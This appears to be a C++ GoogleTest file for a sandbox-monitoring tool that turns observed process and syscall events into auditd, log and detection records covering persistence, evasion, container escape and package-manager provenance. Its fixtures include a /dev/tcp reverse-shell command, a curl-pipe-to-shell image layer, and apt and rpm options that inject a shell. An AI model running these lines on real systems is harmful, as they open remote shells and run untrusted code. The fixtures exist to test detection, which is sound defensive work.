// The shapes of records: what Sigma's taxonomy, the audit daemon's and our own categories have of an event.
#include <gtest/gtest.h>

#include "record_reader.h"
#include "scheduler/score/persistence_area.h"

namespace assay::testing {
namespace {

TEST(Auditd, ExecutionIsASyscallItsArgumentsADirectoryAndAPath) {
  EXPECT_EQ(
      records(R"(
- start: {pid: 1, path: /usr/bin/dash, argv: [sh], cwd: /, uid: 33}
- clone: {pid: 1, child_pid: 2, child_tid: 2}
- exec: {pid: 2, path: /usr/bin/curl, argv: [curl, -o, x], cwd: /tmp, uid: 33}
)",
              Category::auditd,
              {Field::type, Field::SYSCALL, Field::exe, Field::comm, Field::euid, Field::ppid, Field::success,
               Field::key, Field::argc, Field::a0, Field::a1, Field::a2, Field::cwd, Field::name,
               Field::nametype}),
      "type=SYSCALL SYSCALL=execve exe=/usr/bin/dash comm=sh euid=33 ppid=0 success=yes\n"
      "type=EXECVE argc=1 a0=sh\n"
      "type=CWD cwd=/\n"
      "type=PATH name=/usr/bin/dash nametype=NORMAL\n"
      "type=SYSCALL SYSCALL=execve exe=/usr/bin/curl comm=curl euid=33 ppid=1 success=yes key=susp_activity\n"
      "type=EXECVE argc=3 a0=curl a1=-o a2=x\n"
      "type=CWD cwd=/tmp\n"
      "type=PATH name=/usr/bin/curl nametype=NORMAL\n");
}

TEST(Auditd, CallsHaveTheirRegistersInHexAndTheirPathsByWhatBecameOfThem) {
  EXPECT_EQ(records(R"(
- start: {pid: 1, path: /usr/bin/dash, argv: [sh], cwd: /srv}
- syscall: {pid: 1, call: personality, args: [262144]}
- syscall: {pid: 1, call: rename, path: a, path2: /etc/b, args: [16, 32]}
- syscall: {pid: 1, call: unlink, path: /etc/gone, error: 2, result: -1}
- open: {pid: 1, call: openat, path: /etc/systemd/system/x.service, flags: 577}
- connect: {pid: 1, fd: 3, proto: tcp, dst_addr: 203.0.113.5, dst_port: 80}
- witness: {pid: 1, call: openat, path: /etc/systemd/system/x.service}
)",
                    Category::auditd,
                    {Field::type, Field::SYSCALL, Field::a0, Field::a1, Field::success, Field::exit,
                     Field::key, Field::name, Field::nametype}),
            "type=SYSCALL SYSCALL=execve success=yes exit=0\n"
            "type=EXECVE a0=sh\n"
            "type=CWD\n"
            "type=PATH name=/usr/bin/dash nametype=NORMAL\n"
            "type=SYSCALL SYSCALL=personality a0=40000 a1=0 success=yes exit=0\n"
            "type=SYSCALL SYSCALL=rename a0=10 a1=20 success=yes exit=0\n"
            "type=PATH name=/srv/a nametype=DELETE\n"
            "type=PATH name=/etc/b nametype=CREATE\n"
            "type=SYSCALL SYSCALL=unlink a0=0 a1=0 success=no exit=-2\n"
            "type=PATH name=/etc/gone nametype=UNKNOWN\n"
            "type=SYSCALL SYSCALL=openat success=yes exit=3\n"
            "type=PATH name=/etc/systemd/system/x.service nametype=CREATE\n"
            "type=SYSCALL SYSCALL=connect success=yes exit=0 key=network_connect_4\n");
}

TEST(Auditd, ArgumentsBeyondTheLastFieldAreFurtherValuesOfIt) {
  std::string argv = "p0";
  for (int i = 1; i < 18; ++i) argv += ", p" + std::to_string(i);
  EXPECT_NE(records("- start: {pid: 1, path: /x, argv: [" + argv + "], cwd: /}", Category::auditd,
                    {Field::a14, Field::a15})
                .find("a14=p14 a15=p15,p16,p17"),
            std::string::npos);
}

TEST(Log, IsWhatWasExecutedAndPrinted) {
  EXPECT_EQ(records(R"(
- start: {pid: 1, path: /usr/bin/dash, argv: [sh, -c, "bash -i >& /dev/tcp/203.0.113.5/9 0>&1"], cwd: /}
- output: {fd: 2, data: "*** stack smashing detected ***"}
)",
                    Category::log, {Field::Data}),
            "Data=sh -c bash -i >& /dev/tcp/203.0.113.5/9 0>&1\n"
            "Data=*** stack smashing detected ***\n");
}

TEST(Image, IsToldAsItsConfigurationIs) {
  ProcessTree tree;
  NetworkMap network("");
  Speakers speakers(tree);
  Tokens tokens({}, tree, speakers);
  std::array<bool, kCategoryCount> wanted;
  wanted.fill(true);
  Observer observer(tree, network, speakers, tokens, wanted);
  ImageInfo image;
  image.entrypoint = {"/entry.sh"};
  image.cmd = {"serve", "-x"};
  image.env = {"A=b"};
  image.exposed_ports = {"22/tcp"};
  image.layers = {{"", "", 1, "RUN curl https://x.example | sh"}};
  std::string out;
  observer.observe(image, [&](const Record& record) {
    for (const auto& entry : record.entries())
      out += std::string(field_name(entry.field)) + "=" + std::string(entry.value) + "\n";
  });
  EXPECT_EQ(out,
            "User=root\nCommandLine=/entry.sh serve -x\nEnvironment=A=b\nExposedPort=22/tcp\n"
            "History=RUN curl https://x.example | sh\n");
}

TEST(ContainerEscape, IsCallsTriedOrNotAndClonesIntoNamespaces) {
  EXPECT_EQ(records(R"(
- syscall: {call: mount, path: none, path2: /mnt, error: 1, result: -1}
- syscall: {call: chmod, path: /tmp/x}
- syscall: {call: mknodat, path: /dev/sda, mode: 25008}
- syscall: {call: mknodat, path: /tmp/fifo, mode: 4516}
- clone: {child_pid: 2, child_tid: 2, flags: 17}
- clone: {child_pid: 3, child_tid: 3, flags: 268435473}
)",
                    Category::container_escape, {Field::Call, Field::Path, Field::Path2, Field::Result}),
            "Call=mount Path=none Path2=/mnt Result=-1\n"
            "Call=mknodat Path=/dev/sda Result=0\n"
            "Call=clone\n");
}

TEST(Memory, IsCodeThatIsWrittenAndOthersMemory) {
  EXPECT_EQ(records(R"(
- syscall: {call: memfd_create, path: x}
- syscall: {call: mprotect, args: [4096, 8192, 7]}
- syscall: {call: mprotect, args: [4096, 8192, 5]}
- syscall: {call: mmap, args: [0, 2147483648, 3, 34]}
- syscall: {call: process_vm_writev, args: [9]}
)",
                    Category::memory, {Field::Call, Field::Protection, Field::Size}),
            "Call=memfd_create\n"
            "Call=mprotect Protection=rwx Size=8192\n"
            "Call=mmap Protection=rw- Size=2147483648\n"
            "Call=process_vm_writev\n");
}

TEST(Evasion, IsLooksAndSleeps) {
  EXPECT_EQ(
      records(R"(
- open: {call: openat, path: /sys/class/dmi/id/product_name}
- open: {call: openat, path: /etc/hosts}
- witness: {pid: 1, call: access, path: /.dockerenv}
- witness: {pid: 1, call: nanosleep, duration_ns: 60000000000}
)",
              Category::evasion, {Field::Call, Field::Kind, Field::TargetFilename, Field::SleepSeconds}),
      "Call=openat Kind=firmware TargetFilename=/sys/class/dmi/id/product_name\n"
      "Call=access Kind=container TargetFilename=/.dockerenv\n"
      "Call=nanosleep SleepSeconds=60\n");
}

TEST(Persistence, IsWritesWhereThingsStartByThemselves) {
  EXPECT_EQ(records(R"(
- open: {call: openat, path: /etc/cron.d/x, flags: 577}
- open: {call: openat, path: /etc/cron.d/x, flags: 0}
- open: {call: openat, path: /tmp/x, flags: 577}
- syscall: {call: rename, path: /tmp/x, path2: /root/.ssh/authorized_keys}
- file: {path: /etc/ld.so.preload, origin: dropped, file_type: text}
- file: {path: /etc/passwd, origin: deleted}
)",
                    Category::persistence_check, {Field::Area, Field::TargetFilename, Field::SourceFilename}),
            "Area=cron TargetFilename=/etc/cron.d/x\n"
            "Area=ssh TargetFilename=/root/.ssh/authorized_keys SourceFilename=/tmp/x\n"
            "Area=ld_preload TargetFilename=/etc/ld.so.preload\n");
}

TEST(Persistence, AreaIsByPlaceAndName) {
  std::string out;
  for (const char* path :
       {"/etc/crontab", "/var/spool/cron/atjobs/a1", "/home/dev/.config/systemd/user/x.service",
        "/home/dev/.bashrc", "/root/.bash_logout", "/srv/app/.config/autostart/x",
        "/root/.config/autostart/x.desktop", "/etc/cron.d", "etc/crontab", "/etc/crontabs",
        "/etc/update-motd.d/99-x", "/etc/pam.d/sshd", "/etc/apt/apt.conf.d/x", "/lib/modules/6/x.ko",
        "/etc/sudoers.d/x", "/etc/udev/rules.d/x.rules", "/var/www/index.html"})
    out += std::string(path) + "=" + std::string(persistence_area(path)) + "\n";
  EXPECT_EQ(
      out,
      "/etc/crontab=cron\n/var/spool/cron/atjobs/a1=at\n/home/dev/.config/systemd/user/x.service=systemd\n"
      "/home/dev/.bashrc=profile\n/root/.bash_logout=shell_trap\n/srv/app/.config/autostart/x=\n"
      "/root/.config/autostart/x.desktop=autostart\n/etc/cron.d=\netc/crontab=\n/etc/crontabs=\n"
      "/etc/update-motd.d/99-x=motd\n/etc/pam.d/sshd=pam\n/etc/apt/apt.conf.d/x=package_hook\n"
      "/lib/modules/6/x.ko=module\n/etc/sudoers.d/x=sudoers\n/etc/udev/rules.d/x.rules=udev\n"
      "/var/www/index.html=\n");
}

TEST(PackageManager, IsKnownOfAllThatItStarts) {
  EXPECT_EQ(records(R"(
- start: {pid: 1, path: /usr/bin/bash, argv: [bash], cwd: /}
- clone: {pid: 1, child_pid: 2, child_tid: 2}
- exec: {pid: 2, path: /usr/bin/apt-get, argv: [apt-get, install, -y, x]}
- clone: {pid: 2, child_pid: 3, child_tid: 3}
- exec: {pid: 3, path: /usr/bin/dpkg, argv: [dpkg, --unpack, x.deb]}
- clone: {pid: 3, child_pid: 4, child_tid: 4}
- exec: {pid: 4, path: /var/lib/dpkg/info/x.postinst, argv: [x.postinst, configure], origin: dropped}
- clone: {pid: 4, child_pid: 5, child_tid: 5}
- exec: {pid: 5, path: /usr/sbin/useradd, argv: [useradd, x]}
- clone: {pid: 4, child_pid: 6, child_tid: 6}
- exec: {pid: 6, path: /tmp/fetched, argv: [fetched], origin: dropped}
)",
                    Category::process_creation, {Field::Image, Field::ByPackageManager}),
            "Image=/usr/bin/bash\n"
            "Image=/usr/bin/apt-get ByPackageManager=true\n"
            "Image=/usr/bin/dpkg ByPackageManager=true\n"
            "Image=/var/lib/dpkg/info/x.postinst ByPackageManager=true\n"
            "Image=/usr/sbin/useradd ByPackageManager=true\n"
            "Image=/tmp/fetched\n");
}

TEST(PackageManager, IsNoneThatWasChangedOrTakesOrders) {
  EXPECT_EQ(records(R"(
- start: {pid: 1, path: /usr/bin/bash, argv: [bash], cwd: /}
- exec: {pid: 1, path: /usr/bin/apt-get, argv: [apt-get, update], origin: changed}
- exec: {pid: 1, path: /tmp/dpkg, argv: [dpkg], origin: image}
- exec: {pid: 1, path: /usr/bin/apt-get, argv: [apt-get, update, -o, "APT::Update::Pre-Invoke::=/bin/sh"]}
- exec: {pid: 1, path: /usr/bin/rpm, argv: [rpm, --eval, "%{lua:os.execute('/bin/sh')}"]}
)",
                    Category::process_creation, {Field::Image, Field::ByPackageManager}),
            "Image=/usr/bin/bash\nImage=/usr/bin/apt-get\nImage=/tmp/dpkg\nImage=/usr/bin/apt-get\n"
            "Image=/usr/bin/rpm\n");
}

TEST(PackageManager, IsKnownOfFilesThatItLeaves) {
  EXPECT_EQ(records(R"(
- start: {pid: 1, path: /usr/bin/dpkg, argv: [dpkg, -i, x.deb], cwd: /}
- open: {pid: 1, call: openat, path: /etc/cron.d/x.dpkg-new, flags: 577}
- open: {pid: 1, call: openat, path: /bin/tool, flags: 577}
- file: {path: /etc/cron.d/x, origin: dropped, file_type: text}
- file: {path: /usr/bin/tool, origin: dropped, file_type: elf}
- file: {path: /etc/cron.d/y, origin: dropped, file_type: text}
)",
                    Category::file_left, {Field::TargetFilename, Field::Image, Field::ByPackageManager}),
            "TargetFilename=/etc/cron.d/x Image=/usr/bin/dpkg ByPackageManager=true\n"
            "TargetFilename=/usr/bin/tool Image=/usr/bin/dpkg ByPackageManager=true\n"
            "TargetFilename=/etc/cron.d/y\n");
}

TEST(Script, IsKnownWhoeverWroteIt) {
  EXPECT_EQ(records(R"(
- start: {pid: 1, path: /usr/bin/bash, argv: [bash, entry.sh], cwd: /app}
- exec: {pid: 1, path: /usr/bin/python3.11, argv: [python3, -u, /app/x.py]}
- exec: {pid: 1, path: /usr/bin/python3.11, argv: [python3, -m, http.server]}
- exec: {pid: 1, path: /usr/bin/busybox, argv: [busybox, sh, /x.sh]}
- exec: {pid: 1, path: /usr/bin/busybox, argv: [busybox, cat, /x.txt]}
- exec: {pid: 1, path: /usr/bin/dash, argv: [sh, -c, "cat /x"]}
- exec: {pid: 1, path: /usr/bin/mawk, argv: [awk, "{print}", /x]}
- exec: {pid: 1, path: /usr/bin/cat, argv: [cat, /x]}
)",
                    Category::process_creation, {Field::Interpreter, Field::ScriptPath, Field::RootImage}),
            "Interpreter=/usr/bin/bash ScriptPath=/app/entry.sh RootImage=/usr/bin/bash\n"
            "Interpreter=/usr/bin/python3.11 ScriptPath=/app/x.py RootImage=/usr/bin/bash\n"
            "Interpreter=/usr/bin/python3.11 RootImage=/usr/bin/bash\n"
            "Interpreter=/usr/bin/busybox ScriptPath=/x.sh RootImage=/usr/bin/bash\n"
            "RootImage=/usr/bin/bash\n"
            "Interpreter=/usr/bin/dash RootImage=/usr/bin/bash\n"
            "Interpreter=/usr/bin/mawk RootImage=/usr/bin/bash\n"
            "RootImage=/usr/bin/bash\n");
}

}  // namespace
}  // namespace assay::testing
